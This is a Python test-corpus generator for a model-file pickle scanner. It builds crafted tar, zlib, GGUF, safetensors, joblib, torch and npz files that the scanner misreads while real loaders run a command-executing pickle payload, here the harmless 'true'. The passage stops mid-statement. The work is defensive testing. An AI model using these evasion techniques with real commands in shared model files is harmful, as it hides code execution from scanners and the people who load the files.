#!/usr/bin/python3
"""Writes the scanner attack corpus into the directory given as argv[1].

One file per technique of issue 23: each is read one way by ltrack's
scanner and another way by a real loader (pickle.load, torch.load,
numpy.load(allow_pickle=True), joblib.load), which runs its payload. Every
payload is harmless: it calls a command-running callable (posix.system,
subprocess via uuid/pydoc, ...) with the command `true`, which the loader
proof (loader_proof.py) observes through a Python audit hook and blocks.

Alongside: benign files of every supported format made by the real
libraries (tests/unit/scanner/make_corpus.py, run into <out>/corpus), and
manifest.json, which says for each file which loaders run its payload and
which scanner verdicts are acceptable. Run with Debian's /usr/bin/python3
(torch 1.13, numpy, joblib). docs/testing.md says how to add a technique.
"""
import io
import json
import os
import pickle
import struct
import subprocess
import sys
import tarfile
import zipfile
import zlib

import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "unit", "scanner"))
from archive_builders import tar_of, zip_of  # noqa: E402
out = sys.argv[1]
os.makedirs(out, exist_ok=True)
if os.path.exists(os.path.join(out, "manifest.json")):
    os.remove(os.path.join(out, "manifest.json"))
manifest = []
NOT_SAFE = ["unsafe", "error"]

# Techniques the scanner does not yet catch: loader_proof.py reports them
# as XFAIL with the reason instead of failing. Key: a technique, or one
# file of it. Remove an entry as soon as the scanner catches it (the proof
# then says so). Empty since the issue 23 scanner fix.
KNOWN_GAPS = {}


def put(name, data, technique, loaders, why, expect=NOT_SAFE, **extra):
    """Writes one attack file and its manifest entry."""
    with open(os.path.join(out, name), "wb") as f:
        f.write(data)
    entry = dict(file=name, technique=technique, loaders=loaders, expect=expect, why=why, **extra)
    gap = KNOWN_GAPS.get(name) or KNOWN_GAPS.get(technique)
    if gap:
        entry["xfail"] = gap
    manifest.append(entry)


# ---- pickle building blocks --------------------------------------------------
# The payload: posix.system('true') (os.system pickles as posix.system),
# stack-neutral (the result is popped) so it can sit in the middle of a
# pickle that goes on to load normally.
PAYLOAD_OPS = b"cposix\nsystem\n(S'true'\ntR0"
PAYLOAD = PAYLOAD_OPS[:-1] + b"."  # a whole pickle: the call, then STOP


def sbu(s):  # SHORT_BINUNICODE
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def glob(module, name):  # STACK_GLOBAL
    return sbu(module) + sbu(name) + b"\x93"


def binint(n):
    return b"J" + struct.pack("<i", n)


def call(module, name, *args):
    """module.name(*args) for string args, as a protocol 0 pickle fragment."""
    return (f"c{module}\n{name}\n(".encode() + b"".join(b"V" + a.encode() + b"\n" for a in args) + b"tR")


def joblib_wrapper(shape, dtype, dup_shape=None, elsize=-1, align=None, state=True):
    """joblib's NumpyArrayWrapper up to and including its BUILD, as joblib
    writes it (minus the frame and the alignment padding). The array's bytes
    follow the BUILD in a joblib file; NumpyUnpickler reads them there."""
    def shape_ops(s):
        return b"(" + b"".join(binint(n) for n in s) + b"t"
    items = sbu("subclass") + glob("numpy", "ndarray")
    items += sbu("shape") + shape_ops(dup_shape if dup_shape is not None else shape)
    items += sbu("order") + sbu("C")
    items += sbu("dtype") + glob("numpy", "dtype") + sbu(dtype) + b"\x89\x88\x87R"
    if state:  # the dtype's pickled state, as numpy writes it
        flags = np.dtype(dtype).flags
        items += (b"(K\x03" + sbu("<" if np.dtype(dtype).byteorder != "|" else "|") + b"NNN" + binint(elsize)
                  + b"J\xff\xff\xff\xff" + binint(flags) + b"tb")
    items += sbu("allow_mmap") + b"\x88"
    if align is not None:
        items += sbu("numpy_array_alignment_bytes") + align
    if dup_shape is not None:  # the same key again: Python keeps this one
        items += sbu("shape") + shape_ops(shape)
    return glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}(" + items + b"ub"


class Evil:
    def __reduce__(self):
        return (os.system, ("true",))


def npy_bytes(arr, allow_pickle=True):
    buf = io.BytesIO()
    np.save(buf, arr, allow_pickle=allow_pickle)
    return buf.getvalue()


EVIL_NPY = npy_bytes(np.array([1, Evil()], dtype=object))


def tar_of_ustar(members, fmt=tarfile.USTAR_FORMAT):
    # latin-1: a name may be any bytes (the tar polyglot's is a pickle)
    return tar_of(members, fmt=fmt, encoding="latin-1")


def p2(obj):
    return pickle.dumps(obj, protocol=2)


# ---- polyglots: a valid container and, from byte 0, a pickle -------------------
# Loaders that read raw bytes as a pickle: pickle.load; numpy.load for
# anything not 'PK' or '\x93NUMPY'; joblib.load for anything without a
# compressor's magic; torch.load when the file is neither zip nor tar.
RAW_LOADERS = ["pickle", "numpy", "joblib", "torch"]

# tar: the first member's name field holds the pickle; the header checksum
# covers it like any name.
put("polyglot_tar.pkl",
    tar_of_ustar([(PAYLOAD.decode("latin-1"), npy_bytes(np.arange(4.0), False)),
            ("weights.npy", npy_bytes(np.arange(4.0), False))]),
    "polyglot-tar", ["pickle", "numpy", "joblib"],
    "a valid tar whose first header's name field is a pickle (torch.load sees a tar and stops)")

# zlib: header 0x28 0x91 is MARK, FROZENSET. The deflate stream is a fixed
# Huffman block with the literal 'c' (its first byte is 'J', BININT: the
# next four bytes are its argument), then a final stored block whose NLEN
# low byte is 'C' (SHORT_BINBYTES) with length ~LEN>>8 = 255: the pickle
# swallows the stored data and the Adler-32, and resumes after them.
inner = b"ccollections\nOrderedDict\n(tR."
LEN = 188
inner_tail = inner[1:] + b"\x00" * (LEN - len(inner) + 1)  # after STOP: not read by the scanner's pickle walk
deflate = bytes([0x4a, 0x06, 0x04]) + struct.pack("<HH", LEN, LEN ^ 0xFFFF) + inner_tail
stream = b"\x28\x91" + deflate + struct.pack(">I", zlib.adler32(b"c" + inner_tail))
assert zlib.decompress(stream) == b"c" + inner_tail
swallowed = len(stream) - 9  # SHORT_BINBYTES data starts after 'C', n
put("polyglot_zlib.pkl", stream + b"\x00" * (255 - swallowed) + PAYLOAD,
    "polyglot-zlib", RAW_LOADERS,
    "a complete zlib stream (inflating to a benign pickle) that is also a pickle from byte 0 calling posix.system after the stream")

# GGUF: 'G' (BINFLOAT) swallows "GUF", the version and a byte; the tensor
# count's second byte is 'V' (UNICODE), which reads to the first newline:
# inside the first metadata key, after which the key holds the payload.
n_tensors = 0x5600
key = ("x\n" + PAYLOAD.decode()).encode()
gguf = b"GGUF" + struct.pack("<IQQ", 3, n_tensors, 1)
gguf += struct.pack("<Q", len(key)) + key + struct.pack("<I", 8) + struct.pack("<Q", 1) + b"y"
gguf += (struct.pack("<Q", 0) + struct.pack("<I", 0) + struct.pack("<I", 0) + struct.pack("<Q", 0)) * n_tensors
gguf += b"\0" * ((-len(gguf)) % 32)
put("polyglot_gguf.pkl", gguf, "polyglot-gguf", RAW_LOADERS,
    "a valid GGUF v3 file whose header bytes are BINFLOAT, UNICODE and whose first metadata key holds the payload")

# safetensors: the header length's low byte is 'V' (UNICODE), which reads
# through the JSON header to a newline that starts the data section.
data = b"\n" + PAYLOAD
hdr_len = 0x56 + 0x100
header = json.dumps({"t": {"dtype": "U8", "shape": [len(data)], "data_offsets": [0, len(data)]}}).encode()
assert len(header) <= hdr_len
put("polyglot_safetensors.pkl", struct.pack("<Q", hdr_len) + header.ljust(hdr_len) + data,
    "polyglot-safetensors", RAW_LOADERS,
    "a valid safetensors file whose header length starts with UNICODE; the tensor data holds the payload")

# ---- the walker out of step with the unpickler ---------------------------------
# The walker skips an array's bytes after a NumpyArrayWrapper BUILD in any
# pickle; only joblib's NumpyUnpickler reads them as data, every other
# unpickler runs them as opcodes.
wrapper = joblib_wrapper((len(PAYLOAD_OPS),), "u1")
put("wrapper_skip.pkl", b"\x80\x04" + wrapper + PAYLOAD_OPS + b"0" + p2({"w": [1.0]})[2:],
    "wrapper-build-skip-pickle", ["pickle", "numpy", "torch"],
    "NumpyArrayWrapper BUILD in a plain pickle: the 'array bytes' the walker skips are opcodes to pickle.load")

# Same inside a torch zip's data.pkl (torch's unpickler is not joblib's).
import torch  # noqa: E402

torch.manual_seed(0)  # the same bytes every run: differential.py's fixed seed then explores the same files

sd = torch.nn.Linear(2, 2).state_dict()
buf = io.BytesIO()
torch.save(sd, buf)
with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as z:
    torch_members = [(i.filename, z.read(i.filename)) for i in z.infolist()]


def with_member(members, name_suffix, data):
    return [(n, data if n.endswith(name_suffix) else d) for n, d in members]


datapkl = dict(torch_members)["archive/data.pkl"]
put("torch_wrapper_skip.pt",
    zip_of(with_member(torch_members, "/data.pkl", b"\x80\x02" + wrapper + PAYLOAD_OPS + b"0" + datapkl[2:])),
    "wrapper-build-skip-torch", ["torch"],
    "NumpyArrayWrapper BUILD inside a torch checkpoint's data.pkl: torch's unpickler runs the skipped bytes")

# FRAME: joblib's unpickler reads a frame into memory, then reads an array's
# bytes from the file, i.e. after the frame; the pickle resumes inside the
# frame. The walker reads the array right after the BUILD.
k = 64
frame = joblib_wrapper((k,), "u1") + PAYLOAD_OPS + b"."
body = b"\x80\x04\x95" + struct.pack("<Q", len(frame)) + frame
array = bytes(k - len(PAYLOAD_OPS) - 1) + b"N" * len(PAYLOAD_OPS) + b"."
assert len(array) == k
put("frame_joblib.pkl", body + array, "frame-ignored", ["joblib", "pickle", "numpy"],
    "joblib reads array bytes from after the FRAME while the pickle goes on inside it")

# dtype spelled 'float64': 8-byte items to numpy, not 64.
k = 2
tail = PAYLOAD_OPS + b"."
pad_to = 64 * k - 8 * k - len(tail)
put("dtype_float64.joblib",
    b"\x80\x04" + joblib_wrapper((k,), "float64") + bytes(8 * k) + tail + b"N" * (pad_to + 8) + b".",
    "dtype-float64-itemsize", ["joblib"],
    "joblib array of dtype 'float64': numpy reads 8-byte items, the payload follows the array")

# Duplicate dict keys: the wrapper's state names 'shape' twice; BUILD keeps
# the last (1 element), the walker took the first (200).
put("dup_keys.joblib",
    b"\x80\x04" + joblib_wrapper((1,), "u1", dup_shape=(200,)) + b"\x00" + PAYLOAD_OPS + b"." + b"N" * 220 + b".",
    "duplicate-dict-keys", ["joblib"],
    "the wrapper's state dict has 'shape' twice; Python keeps the last")

# More ways to size an array differently from numpy. Each file: the
# wrapper, the bytes joblib reads as the array, the payload, then 'N's and
# STOP where a walker that skipped a different amount lands.
def joblib_desync(wrapper_ops, array_bytes, skip_guess):
    return (b"\x80\x04" + wrapper_ops + array_bytes + PAYLOAD_OPS + b"."
            + b"N" * (skip_guess + 64) + b".")


# numpy ignores a fixed-size dtype's elsize in its pickled state.
put("dtype_state_elsize.joblib", joblib_desync(joblib_wrapper((2,), "u1", elsize=64), bytes(2), 128),
    "dtype-state-elsize", ["joblib"], "dtype u1 whose pickled state claims 64-byte items; numpy keeps 1")
# Spellings whose digits are not the item size.
for name, code, count, size in [("uint8", "uint8", 3, 1), ("int32", "int32", 2, 4), ("unicode_le", "<U2", 2, 8)]:
    wr = joblib_wrapper((count,), code, state=not code.startswith("<U"))
    put(f"dtype_{name}.joblib", joblib_desync(wr, bytes(count * size), 64 * count),
        "dtype-spelling-itemsize", ["joblib"], f"joblib array of dtype {code!r}: {size}-byte items to numpy")
# The alignment padding byte is read whenever the attribute is not None.
put("align_true.joblib", joblib_desync(joblib_wrapper((1,), "u1", align=b"\x88"), b"\x00" + b"\x00", 8),
    "alignment-not-int", ["joblib"], "numpy_array_alignment_bytes=True: joblib reads a padding byte")
# An object array's data is read by the plain pickle.load, which runs a
# nested NumpyArrayWrapper's 'array bytes' as opcodes.
nested = b"\x80\x04" + joblib_wrapper((len(PAYLOAD_OPS),), "u1") + PAYLOAD_OPS + b"0]N\x85."
put("wrapper_in_object_array.joblib", b"\x80\x04" + joblib_wrapper((1,), "O") + nested + b".",
    "wrapper-in-object-array", ["joblib"],
    "a NumpyArrayWrapper inside a joblib object array's pickle, which joblib reads with plain pickle.load")

# ---- containers read differently from the loaders ------------------------------
# torch legacy format with the magic number spelled as an 11-byte LONG1 (the
# same value): the following pickles are protocol 0, not stacked PROTOs.
magic = 0x1950A86A20F9469CFC6C
legacy = (b"\x80\x02\x8a\x0b" + magic.to_bytes(11, "little") + b".")
legacy += b"I1001\n."
legacy += b"(dp0\nVprotocol_version\np1\nI1001\nsVlittle_endian\np2\nI01\ns."
legacy += b"(dp0\nVw\np1\n" + PAYLOAD_OPS + b"I1\ns."
legacy += b"(l."
put("torch_legacy_long1.pt", legacy, "torch-legacy-long1-magic", ["torch"],
    "legacy torch file whose magic is LONG1 with 11 bytes: torch compares the value and reads four more pickles")


def torch_tar(members):
    return tar_of_ustar(members, fmt=tarfile.GNU_FORMAT)


# Duplicate tar members: two 'tensors' members break the scanner's torch-tar
# detection, so 'storages' is read as a plain stream; torch reads the second
# storage record, a pickle after raw storage bytes.
storages = (p2(2) + b"\x80\x02(X\x02\x00\x00\x00k0X\x03\x00\x00\x00cpuctorch\nFloatStorage\nt."
            + struct.pack("<q", 1) + bytes(4) + PAYLOAD + p2([]))
put("torch_tar_dup.tar",
    torch_tar([("sys_info", p2({"protocol_version": 1001})), ("pickle", p2({"w": 1})),
               ("tensors", p2(0)), ("tensors", p2(0)), ("storages", storages)]),
    "tar-duplicate-members", ["torch"],
    "a torch tar checkpoint with a duplicate member; tarfile uses the last of each name")


def gnu_sparse(name, chunks, realsize):
    """An old-GNU sparse ('S') tar member: chunks [(offset, bytes)] laid out
    at their offsets with zero holes by tarfile, stored back to back."""
    stored = b"".join(c for _, c in chunks)
    h = bytearray(512)
    h[0:len(name)] = name.encode()
    h[100:108] = b"0000644\0"
    h[108:116] = b"0000000\0"
    h[116:124] = b"0000000\0"
    h[124:136] = b"%011o\0" % len(stored)
    h[136:148] = b"%011o\0" % 0
    h[156:157] = b"S"
    h[257:265] = b"ustar  \0"
    pos = 386
    for off, c in chunks:
        h[pos:pos + 12] = b"%011o\0" % off
        h[pos + 12:pos + 24] = b"%011o\0" % len(c)
        pos += 24
    h[482] = 0
    h[483:495] = b"%011o\0" % realsize
    h[148:156] = b" " * 8
    h[148:156] = b"%06o\0 " % sum(h)
    return bytes(h) + stored + bytes((-len(stored)) % 512)


# Sparse member: the scanner reads the stored bytes back to back; tarfile
# puts the second chunk after a hole, so BINBYTES swallows the hole in torch
# and the payload in the scanner.
chunk1 = b"\x80\x02B" + struct.pack("<I", len(PAYLOAD_OPS) + 1)
chunk2 = PAYLOAD_OPS + b"." + b"N."
hole = len(PAYLOAD_OPS) + 1
plain = tar_of_ustar([("sys_info", p2({"protocol_version": 1001})), ("tensors", p2(0)), ("storages", p2(0) + p2([]))],
               fmt=tarfile.GNU_FORMAT)
plain = plain.rstrip(b"\0")
plain += bytes((-len(plain)) % 512)
sparse = gnu_sparse("pickle", [(0, chunk1), (len(chunk1) + hole, chunk2)], len(chunk1) + hole + len(chunk2))
put("torch_tar_sparse.tar", plain + sparse + bytes(1024), "tar-sparse-member", ["torch"],
    "the 'pickle' member is GNU sparse: tarfile inserts a hole the scanner does not")



def text_tar(payload):
    """A tar that is also strict UTF-8 text (no NUL, no C0 controls), so the
    text/JSON recognisers would take it: its first header's checksum is a
    NEGATIVE signed sum ("-NNN", which int(..., 8) reads): tarfile accepts
    it, and torch.load's legacy tar loader unpickles 'storages'. A pax
    header names the member; every block is filled with text."""
    big = "\U0010ffff".encode()  # f4 8f bf bf: signed byte sum -255

    def header(name, size, typeflag, negative):
        h = bytearray(b" " * 512)
        h[0:100] = name
        h[100:108] = b"0000644 "
        h[108:116] = b"0000000 "
        h[116:124] = b"0000000 "
        h[124:136] = b"%011o " % size
        h[136:148] = b"00000000000 "
        h[156:157] = typeflag
        if negative:
            h[157:257] = big * 25
            h[265:297] = big * 8
            h[297:329] = big * 8
            h[345:497] = big * 38
        signed = sum(b - 256 if b > 127 else b for b in h)
        if negative:
            assert signed < 0, signed
            h[148:156] = b"%-8s" % (b"-%o" % -signed)
        else:
            h[148:156] = b"%06o  " % sum(h)
        return bytes(h)

    rec = b" path=storages\n"
    rec = b"%d" % (len(rec) + 2) + rec
    rest = 512 - len(rec)
    filler = b" comment=" + b"c" * (rest - len(b" comment=") - 4) + b"\n"
    rec += b"%d" % rest + filler
    assert len(rec) == 512
    pad = lambda b: b + b"\n" * (-len(b) % 512)
    blob = header(big * 25, len(rec), b"x", True) + rec + header(b"D" * 100, len(payload), b"0", False) + pad(payload)
    blob.decode("utf-8")
    assert not any(c < 0x20 and c not in b"\t\n\r\f\v" for c in blob)
    return blob


for name in ("text_tar.pt", "text_tar_config.json"):
    put(name, text_tar(PAYLOAD), "tar-negative-checksum-text", ["torch"],
        "a tar that is also UTF-8 text: its first header's checksum is a negative signed sum, which "
        "tarfile accepts; torch.load's legacy tar loader unpickles its 'storages' member")

# joblib's old "ZF" zfile, all of it strict UTF-8 text (stored deflate
# blocks whose LEN/NLEN bytes are UTF-8, an Adler-32 of printable bytes):
# joblib.load inflates and unpickles it. (Past the scanner's 1 GiB inflate
# limit the same file was safe text; that branch is a unit test with a
# lowered limit: data_files.joblib_zfile_over_the_inflate_limit_is_an_error.)
def text_zfile(payload):
    import random
    n = 0x7f3d  # LEN 3d 7f, NLEN c2 80: valid UTF-8
    body = payload + b"a" * (n - len(payload) - 2048)
    rnd = random.Random(1)
    while True:
        p = rnd.random()
        t = bytes(0x7e if rnd.random() < p else 0x21 for _ in range(2048))
        adler = zlib.adler32(body + t).to_bytes(4, "big")
        if all(0x20 <= c <= 0x7e for c in adler):
            break
    z = b"x^!" + n.to_bytes(2, "little") + (n ^ 0xffff).to_bytes(2, "little") + body + t + adler
    assert zlib.decompress(z) == body + t
    out = b"ZF" + hex(n).encode().ljust(19) + z
    out.decode("utf-8")
    return out


put("zfile_text.joblib", text_zfile(PAYLOAD), "joblib-zfile-text", ["joblib"],
    "a joblib 'ZF' zfile stream that is all UTF-8 text: joblib inflates and unpickles it")

# A link named like a checkpoint member: torch extracts 'storages' (making
# the symlink) and unpickles the file it names, in a tar that is no full
# checkpoint (no 'pickle'/'tensors' members; one ordinary .npy).
link_target = os.path.join(os.path.abspath(out), "tarlink_target.pkl")
with open(link_target, "wb") as f:
    f.write(PAYLOAD)
manifest.append(dict(file="tarlink_target.pkl", technique="pickle-payload", loaders=["pickle"], expect=["unsafe"],
                     why="the pickle tar_symlink_storages.pt's 'storages' link names"))
for link_name, kind in [("storages", tarfile.SYMTYPE), ("./storages", tarfile.SYMTYPE), ("storages", tarfile.LNKTYPE)]:
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w", format=tarfile.PAX_FORMAT) as t:
        data = npy_bytes(np.arange(4, dtype=np.float32), False)
        ti = tarfile.TarInfo("weights.npy")
        ti.size = len(data)
        t.addfile(ti, io.BytesIO(data))
        li = tarfile.TarInfo(link_name)
        li.type = kind
        li.linkname = link_target
        t.addfile(li)
    fname = "tar_%s_%s.pt" % ("symlink" if kind == tarfile.SYMTYPE else "hardlink", link_name.replace("./", "dot_"))
    # torch 1.13 calls getmember("storages"): the ./ spelling and a hard
    # link to a file outside the archive fail there, before unpickling.
    runs = kind == tarfile.SYMTYPE and link_name == "storages"
    put(fname, b.getvalue(), "tar-link-checkpoint-member", ["torch"] if runs else [],
        "a tar whose 'storages' member is a link: torch extracts it and unpickles the file it names")

# data.PKL: torch (miniz) finds records case-insensitively; the scanner's
# torch mode comes from an unrelated archive/x/data.pkl and skips non-.pkl names.
members = [(n.replace("data.pkl", "data.PKL"), b"\x80\x02" + PAYLOAD_OPS + b"0" + d[2:] if n.endswith("data.pkl") else d)
           for n, d in torch_members]
members.append(("archive/x/data.pkl", p2({"w": 1})))
put("torch_data_PKL.pt", zip_of(members), "zip-case-insensitive-data-pkl", ["torch"],
    "archive/data.PKL is the checkpoint's data.pkl to torch (miniz ignores case)")


# ZIP64 end of central directory reached through the locator: CPython uses
# it whenever the locator is there; the scanner followed the plain EOCD.
def zip_parts(members):
    """(local headers+data, central directory entries) for stored members."""
    local, central = b"", b""
    for name, data in members:
        nb = name.encode()
        crc = zlib.crc32(data)
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 20, 20, 0, 0, 0, 0, crc, len(data), len(data),
                               len(nb), 0, 0, 0, 0, 0, len(local)) + nb
        local += struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0, 0, 0, 0, crc, len(data), len(data), len(nb), 0) + nb + data
    return local, central


def zip_raw(members):
    """A stored zip exactly as listed (zipfile would treat 'x/' as a directory)."""
    local, central = zip_parts(members)
    return local + central + struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, len(members), len(members),
                                         len(central), len(local), 0)


benign_npy = npy_bytes(np.arange(6.0), False)
local_a, cd_a = zip_parts([("a.npy", benign_npy)])
local_b, cd_b = zip_parts([("a.npy", EVIL_NPY)])
cd_b = cd_b.replace(struct.pack("<I", 0)[:4] + b"a.npy", struct.pack("<I", len(local_a)) + b"a.npy")
off_a = len(local_a) + len(local_b)
off_b = off_a + len(cd_a)
body = local_a + local_b + cd_a + cd_b
eocd64 = struct.pack("<IQHHIIQQQQ", 0x06064b50, 44, 45, 45, 0, 0, 1, 1, len(cd_b), off_b)
locator = struct.pack("<IIQI", 0x07064b50, 0, len(body), 1)
eocd = struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, 1, 1, len(cd_a), off_a, 0)
put("zip64_locator.npz", body + eocd64 + locator + eocd, "zip64-locator", ["numpy"],
    "plain EOCD names a benign directory, the ZIP64 record behind the locator an evil one")

# Concatenated zips: CPython shifts every offset by the bytes before the
# last archive; the scanner read the first archive's (same-shaped) records.
evil_npy2 = EVIL_NPY
n = 0
while True:
    benign2 = npy_bytes(np.zeros(n, dtype=np.uint8), False)
    if len(benign2) >= len(evil_npy2):
        break
    n += 1
evil_npy2 += b"\0" * (len(benign2) - len(evil_npy2))  # after the pickle's STOP: ignored by numpy
put("concatenated.npz", zip_of([("a.npy", benign2)]) + zip_of([("a.npy", evil_npy2)]),
    "zip-concatenated", ["numpy"],
    "two same-shaped zips back to back: CPython reads the second at shifted offsets")

# descr 'object' (not '|O'): numpy accepts any dtype spelling.
hdr = "{'descr': 'object', 'fortran_order': False, 'shape': (1,), }"
hdr = hdr + " " * ((-(len(hdr) + 11)) % 64) + "\n"
put("descr_object.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr)) + hdr.encode() + p2([Evil()]),
    "npy-descr-object", ["numpy"], "an .npy whose descr is spelled 'object': numpy unpickles its data")

# A data.pkl member turns an .npz into a 'torch checkpoint' for the scanner,
# which then skips every .npy; numpy.load reads them all.
put("npz_data_pkl.npz", zip_of([("data.pkl", p2({"w": 1})), ("a.npy", EVIL_NPY)]),
    "npz-data-pkl-torch-mode", ["numpy"], "data.pkl in an .npz: numpy still loads a.npy")

# A member named like a directory that numpy loads all the same.
put("npz_dir_member.npz", zip_raw([("b.npy", benign_npy), ("a/", EVIL_NPY)]),
    "npz-directory-member", ["numpy"], "member 'a/' holds an object array; NpzFile['a/'] reads it")

# More spellings numpy accepts for an object dtype.
for i, descr in enumerate(["O8", "=O", "object_", "<O8"]):
    hdr = "{'descr': '%s', 'fortran_order': False, 'shape': (1,), }" % descr
    hdr = hdr + " " * ((-(len(hdr) + 11)) % 64) + "\n"
    put(f"descr_object_{i}.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr)) + hdr.encode() + p2([Evil()]),
        "npy-descr-object", ["numpy"], f"an .npy whose descr is spelled {descr!r}")

# The same tricks reached through other containers.
put("npy_wrapper_skip.npy",
    npy_bytes(np.zeros(1, dtype=object))[:-len(p2(None))].rstrip(b"\x80") + b"\x80\x02" + wrapper + PAYLOAD_OPS + b"0" + b"]N\x85.",
    "wrapper-build-skip-npy", ["numpy"],
    "NumpyArrayWrapper BUILD in an object .npy's pickle: numpy's unpickler runs the skipped bytes")
legacy_buf = io.BytesIO()
torch.save(sd, legacy_buf, _use_new_zipfile_serialization=False)
lg = legacy_buf.getvalue()
# the legacy layout: magic, protocol, sys_info pickles, then the data pickle
pos = 0
for _ in range(3):
    pos = lg.index(b".", lg.index(b"\x80\x02", pos)) + 1
    while lg[pos:pos + 2] != b"\x80\x02":
        pos = lg.index(b".", pos) + 1
put("torch_legacy_wrapper_skip.pt", lg[:pos] + b"\x80\x02" + wrapper + PAYLOAD_OPS + b"0" + lg[pos + 2:],
    "wrapper-build-skip-torch-legacy", ["torch"],
    "NumpyArrayWrapper BUILD in a legacy torch file's data pickle")


def zip64_twice(benign_members, evil_members):
    """A zip whose plain EOCD lists benign_members and whose ZIP64 record
    (found through the locator) lists evil_members."""
    local_a, cd_a = zip_parts(benign_members)
    local_b, cd_b = zip_parts(evil_members)
    shifted = b""
    pos = 0
    while pos < len(cd_b):
        nlen, elen, clen = struct.unpack("<HHH", cd_b[pos + 28:pos + 34])
        lho = struct.unpack("<I", cd_b[pos + 42:pos + 46])[0]
        shifted += cd_b[pos:pos + 42] + struct.pack("<I", lho + len(local_a)) + cd_b[pos + 46:pos + 46 + nlen + elen + clen]
        pos += 46 + nlen + elen + clen
    off_a = len(local_a) + len(local_b)
    off_b = off_a + len(cd_a)
    body = local_a + local_b + cd_a + shifted
    n_a, n_b = len(benign_members), len(evil_members)
    eocd64 = struct.pack("<IQHHIIQQQQ", 0x06064b50, 44, 45, 45, 0, 0, n_b, n_b, len(shifted), off_b)
    locator = struct.pack("<IIQI", 0x07064b50, 0, len(body), 1)
    eocd = struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, n_a, n_a, len(cd_a), off_a, 0)
    return body + eocd64 + locator + eocd


evil_torch = with_member(torch_members, "/data.pkl", b"\x80\x02" + PAYLOAD_OPS + b"0" + datapkl[2:])
put("zip64_locator.pt", zip64_twice(torch_members, evil_torch), "zip64-locator-torch", ["torch"],
    "torch checkpoint: plain EOCD lists the benign data.pkl, the ZIP64 record (miniz follows it) the evil one")

# Duplicate 'dtype' key: the walker sized items by the first (8 bytes),
# joblib by the last (1 byte).
k = 4
dupd = joblib_wrapper((k,), "u1").replace(sbu("allow_mmap"), sbu("dtype") + glob("numpy", "dtype") + sbu("u1")
                                          + b"\x89\x88\x87R(K\x03" + sbu("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
                                          + sbu("allow_mmap"))
dupd = dupd.replace(sbu("dtype") + glob("numpy", "dtype") + sbu("u1"), sbu("dtype") + glob("numpy", "dtype") + sbu("<f8"), 1)
dupd = dupd.replace(b"(K\x03" + sbu("|"), b"(K\x03" + sbu("<"), 1)
put("dup_dtype.joblib", b"\x80\x04" + dupd + bytes(k) + PAYLOAD_OPS + b"." + b"N" * (8 * k) + b".",
    "duplicate-dict-keys", ["joblib"], "the wrapper's state dict has 'dtype' twice; Python keeps the last")

# A near-miss reached inside a torch checkpoint.
put("torch_near_pipepager.pt",
    zip_of(with_member(torch_members, "/data.pkl", b"\x80\x02" + call("pydoc", "pipepager", "", "true") + b"0" + datapkl[2:])),
    "near-miss-pydoc.pipepager", ["torch"], "pydoc.pipepager inside a torch checkpoint's data.pkl")

# ---- near-misses: callables that run commands ------------------------------
near = [("uuid", "_get_command_stdout", ["true"]), ("pydoc", "pipepager", ["", "true"]),
        ("_osx_support", "_read_output", ["true"]),
        # the same kind, not named in the issue: the fix must not be a list of three
        ("pydoc", "tempfilepager", ["", "true"]), ("imaplib", "IMAP4_stream", ["true"])]
for module, name, args in near:
    put(f"near_{name.strip('_')}.pkl", b"\x80\x02" + call(module, name, *args) + b".",
        f"near-miss-{module}.{name}", RAW_LOADERS, f"{module}.{name} runs a command")

# joblib's NDArrayWrapper makes joblib.load numpy.load(allow_pickle=True) a
# file named inside the pickle (relative to the pickle's directory).
side = "ndarraywrapper_side.npy"
with open(os.path.join(out, side), "wb") as f:
    f.write(EVIL_NPY)
manifest.append(dict(file=side, technique="npy-object-array", loaders=["numpy"], expect=["unsafe"],
                     why="an object .npy, named by ndarraywrapper.pkl"))
put("ndarraywrapper.pkl",
    b"\x80\x02" + b"cjoblib.numpy_pickle_compat\nNDArrayWrapper\n)\x81}(" + sbu("filename") + sbu(side)
    + sbu("subclass") + b"cnumpy\nndarray\n" + sbu("allow_mmap") + b"\x89ub.",
    "near-miss-joblib-NDArrayWrapper", ["joblib"],
    "NDArrayWrapper: joblib.load loads the named sidecar .npy with allow_pickle=True")

# ---- Python 2 names: find_class maps them after the audit event -------------
# Below protocol 3 (the last PROTO read; none = 0) every default loader
# (fix_imports=True) resolves _compat_pickle's Python 3 name: the scanner
# must classify that one (scanner/compat_pickle.inc).
EVAL_ARGS = b"(V__import__('posix').system('true')\ntR."
put("py2_builtin_eval.pkl", b"\x80\x02c__builtin__\neval\n" + EVAL_ARGS,
    "python2-name", RAW_LOADERS,
    "protocol 2: __builtin__.eval resolves builtins.eval, which runs posix.system")
put("py2_proto_switch_eval.pkl", b"\x80\x04\x80\x02c__builtin__\neval\n" + EVAL_ARGS,
    "python2-name-proto-switch", RAW_LOADERS,
    "PROTO 4 then PROTO 2: the loader's protocol is the last one read, so the Python 2 mapping applies")
put("py2_cstringio_open.pkl", b"ccStringIO\nopen\n(V/tmp/ltrack-py2-name\nVw\ntR.",
    "python2-name-mapped-only", [],
    "protocol 0: cStringIO.open is io.open (writes a file); dangerous only under its Python 3 name "
    "(tests/unit/pyhook proves the write with the real loader)")
put("py2_http_server.pkl", b"\x80\x02cSimpleHTTPServer\nSimpleHTTPRequestHandler\n)R.",
    "python2-name-mapped-only", [],
    "protocol 2: SimpleHTTPServer is http.server (serves a directory)")

# ---- hostile: 60,000 directory entries, one member of protocol 0 opcodes ----
member = b"(" + b"N0" * 400000 + b"l."  # 800 KB: under the trial walk's million opcodes
local, cd1 = zip_parts([("m.pkl", member)])
entries = 60000
cd = b"".join(cd1[:28] + struct.pack("<H", 5) + cd1[30:46] + b"%05d" % i for i in range(entries))
# The file: every entry is the same bytes, so a scanner may walk
# them once and answer safe (no loader runs anything), or run out of its
# budget; either way within the bound.
put("hostile_60k_entries.zip",
